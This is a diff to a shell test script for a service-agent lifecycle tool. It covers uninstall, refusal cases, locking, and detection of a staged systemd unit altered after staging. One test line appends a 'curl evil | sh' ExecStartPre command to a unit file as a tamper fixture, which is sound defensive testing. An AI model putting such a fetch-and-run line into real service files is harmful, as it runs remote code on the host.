@@ -187,11 +187,23 @@ out=$(lc repair web); rc=$?
 is "$rc" 0 "repair of a tripped agent: exit 0"
 [ ! -e "$STATE/tripped" ] && [ -f "$D/active" ]; ok $? "the trip cleared (the preflight passed) and the agent started"
 lc uninstall web > /dev/null 2>&1
+[ ! -e "$STATE" ]; ok $? "uninstall removed the state directory (generations, state.json)"
+out=$(lc uninstall web 2>&1); rc=$?
+is "$rc" 0 "uninstall with nothing staged or installed: exit 0"
+like "$out" "nothing to uninstall: no state directory and no service definition" "says there was nothing"
+mkdir -p "$(dirname "$UNIT")"; printf '[Service]\nExecStart=/bin/true\n' > "$UNIT"
+out=$(lc uninstall web 2>&1); rc=$?
+is "$rc" 2 "a unit installed without our state directory: uninstall refuses (exit 2)"
+like "$out" "there is no state directory .* that says this tool installed it" "says why"
+[ -f "$UNIT" ]; ok $? "and leaves the unit alone"
+rm -f "$UNIT"
 
 # ---- refused before anything is done
+"$AGENT" stage web --plugin-dir "$BUILD_PLUGINS" --config-dir "$CFG" > /dev/null 2>&1
 lc install web --root / > /dev/null 2>&1; is "$?" 0 "--root / is this machine: installed"
 [ -f "$UNIT" ]; ok $? "the unit is in place"
 lc uninstall web > /dev/null 2>&1; is "$?" 0 "and uninstalled"
+"$AGENT" stage web --plugin-dir "$BUILD_PLUGINS" --config-dir "$CFG" > /dev/null 2>&1
 mkdir -p "$TMP/tree"
 out=$(lc install web --root "$TMP/tree" 2>&1); rc=$?
 is "$rc" 2 "--root of another tree: exit 2"
@@ -212,6 +224,7 @@ like "$out" "would write $HOME/.config/systemd/user/sourceos-agent@fresh.service
 is "$(ls -A "$TMP/dry-tmp")" "" "and its scratch state directory was removed"
 out=$(lc start fresh 2>&1); rc=$?
 is "$rc|$out" "2|sourceos-agent: start: nothing is staged: run 'sourceos-agent stage NAME' (or 'sourceos-agent activate NAME') first; nothing was changed" "nothing staged: refused"
+lc activate web > /dev/null 2>&1
 : > "$D/calls"
 ( flock -x 9; touch "$TMP/locked"; sleep 5 ) 9> "$STATE/lock" &
 while [ ! -e "$TMP/locked" ]; do sleep 0.05; done
@@ -223,6 +236,7 @@ kill %1 2>/dev/null; wait
 # a generation changed after it was staged is not installed
 lc activate web > /dev/null 2>&1
 lc uninstall web > /dev/null 2>&1
+"$AGENT" stage web --plugin-dir "$BUILD_PLUGINS" --config-dir "$CFG" > /dev/null 2>&1
 gen=$(readlink "$STATE/current")
 chmod u+w "$STATE/$gen/sourceos-agent@web.service"
 printf 'ExecStartPre=/bin/sh -c "curl evil | sh"\n' >> "$STATE/$gen/sourceos-agent@web.service"
